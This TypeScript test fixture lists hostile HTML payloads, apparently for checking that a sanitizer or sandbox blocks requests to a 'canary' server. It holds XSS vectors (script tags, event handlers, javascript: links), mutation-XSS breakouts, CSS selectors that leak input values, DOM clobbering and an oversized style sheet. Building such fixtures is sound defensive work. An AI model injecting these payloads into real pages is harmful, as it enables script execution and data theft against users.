/** Markup that a hostile page may hold; `canary` is the address of a server that must never be asked. */
export const HOSTILE_MARKUP: readonly { readonly name: string; readonly markup: (canary: string) => string }[] = [
  { name: 'a script', markup: (to) => `<script>parent.stolen=1;top.stolen=1;new Image().src='${to}/script'</script>` },
  {
    name: 'a script of its own address',
    markup: (to) => `<script src="${to}/s.js"></script><script type="module" src="${to}/m.js"></script>`,
  },
  {
    name: 'a script that closes a comment',
    markup: (to) => `<!--><script src="${to}/c.js"></script>--><!-- --!><img src="${to}/c2" onerror=alert(1)>`,
  },
  {
    name: 'event handlers',
    markup: (to) =>
      `<p onclick="alert(1)" onmouseover="top.stolen=1">x</p><body onload="top.stolen=1"><img src="${to}/e" onerror="alert(1)"><details open ontoggle="alert(1)"><summary>x</summary></details>`,
  },
  {
    name: 'pictures and media',
    markup: (to) =>
      `<img src="${to}/i.png" srcset="${to}/i2.png 2x"><picture><source srcset="${to}/p.webp"><img src="${to}/p.png"></picture><video src="${to}/v.mp4" poster="${to}/v.png" autoplay></video><audio src="${to}/a.mp3" autoplay></audio><input type="image" src="${to}/in.png">`,
  },
  {
    name: 'a form that sends itself',
    markup: (to) =>
      `<form action="${to}/form" id="f"><input name="q" value="1" autofocus onfocus="this.form.submit()"><button formaction="${to}/b" autofocus>x</button></form><script>f.submit()</script>`,
  },
  {
    name: 'frames and objects',
    markup: (to) =>
      `<iframe src="${to}/frame"></iframe><iframe srcdoc="<script>top.stolen=1</script><img src='${to}/doc'>"></iframe><frameset><frame src="${to}/fs"></frameset><object data="${to}/o"></object><embed src="${to}/em"><applet code="${to}/ap"></applet><portal src="${to}/po"></portal>`,
  },
  {
    name: 'a refresh',
    markup: (to) =>
      `<meta http-equiv="refresh" content="0;url=${to}/refresh"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv="set-cookie" content="a=b">`,
  },
  {
    name: 'a base and links of the head',
    markup: (to) =>
      `<base href="${to}/" target="_top"><link rel="stylesheet" href="${to}/l.css"><link rel="preload" as="image" href="${to}/l.png"><link rel="prefetch" href="${to}/pf"><link rel="dns-prefetch" href="${to}"><link rel="icon" href="${to}/icon"><link rel="manifest" href="${to}/mf">`,
  },
  {
    name: 'a style sheet that loads',
    markup: (to) =>
      `<style>@import url("${to}/i.css");@font-face{font-family:x;src:url(${to}/f.woff2)}body{font-family:x;background:url(${to}/b.png)}p::before{content:url(${to}/c.png)}</style><p>x</p>`,
  },
  {
    name: 'a style sheet that spies',
    markup: (to) =>
      `<style>input[value^="a"]{background:url(${to}/a)}td[title*="1"]{background:url(${to}/t)}.selected{background:url(${to}/sel)}#here{list-style:url(${to}/here)}</style>`,
  },
  {
    name: 'styles of elements',
    markup: (to) =>
      `<p style="background:url(${to}/p)">x</p><p style="background:u\\72l(${to}/esc)">x</p><div style="position:fixed;inset:0;z-index:99999;background:#fff">covered</div><p style="-moz-binding:url(${to}/x);behavior:url(${to}/y);width:expression(alert(1))">x</p>`,
  },
  {
    name: 'a table that loads',
    markup: (to) =>
      `<table background="${to}/t"><tr background="${to}/tr"><td background="${to}/td">x</td></tr></table><body background="${to}/body">`,
  },
  {
    name: 'a drawing',
    markup: (to) =>
      `<svg onload="alert(1)"><script>top.stolen=1</script><image href="${to}/svg.png"/><use href="${to}/u.svg#a"/><foreignObject><iframe src="${to}/fo"></iframe></foreignObject><animate attributeName="href" values="javascript:alert(1)"/><a xlink:href="javascript:alert(1)"><text>x</text></a><style>@import url(${to}/svgcss);</style></svg>`,
  },
  {
    name: 'formulae and mixed content',
    markup: (to) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${to}/math onerror=alert(1)&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=${to}/mix onerror=alert(1)>"></a></svg>`,
  },
  {
    name: 'links that act',
    markup: (to) =>
      `<a href="javascript:alert(1)" target="_top">x</a><a href="data:text/html,<script>alert(1)</script>">y</a><a href="${to}/ping" ping="${to}/ping">z</a><area href="javascript:alert(1)"><map name="m"><area href="${to}/area"></map>`,
  },
  {
    name: 'text that ends elements',
    markup: (to) =>
      `<title></title><script src="${to}/t.js"></script></title><textarea></textarea><script>alert(1)</script></textarea><noscript><p title="</noscript><img src=${to}/ns onerror=alert(1)>"></noscript><xmp></xmp><img src="${to}/xmp"></xmp><plaintext>`,
  },
  {
    name: 'a template and shadow',
    markup: (to) =>
      `<template shadowrootmode="open"><img src="${to}/shadow"><script>alert(1)</script></template><template><img src="${to}/tpl"></template>`,
  },
  {
    name: 'names of our own',
    markup: (to) =>
      `<p id="here" class="selected">x</p><mark class="quote" id="here">y</mark><img name="currentScript"><p data-mark-0="selected z">z</p><a id="${to}"></a>`,
  },
  {
    name: 'a style sheet of megabytes',
    markup: (to) => `<style>${'td{background:url('.concat(to, '/big)}').repeat(20_000)}</style>`,
  },
  {
    name: 'dialogs and popovers',
    markup: (to) =>
      `<dialog open><form method="dialog"><button autofocus>x</button></form></dialog><div popover id="p">x</div><button popovertarget="p">x</button><p contenteditable autofocus onfocus="alert(1)">x</p><img src="${to}/d" loading="eager" fetchpriority="high">`,
  },
]
